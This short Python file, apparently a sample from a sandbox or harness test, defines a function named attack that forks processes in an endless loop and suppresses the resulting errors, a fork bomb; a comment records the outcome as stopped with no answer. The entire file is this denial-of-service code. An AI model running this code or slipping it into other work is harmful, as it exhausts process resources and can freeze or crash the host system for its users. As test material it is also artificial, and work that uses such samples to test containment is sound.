"""Forks without end and catches what comes of it."""
# ruff: noqa
# outcome: Stopped no answer within

import contextlib
import os


def attack():
    while True:
        with contextlib.suppress(OSError):
            os.fork()
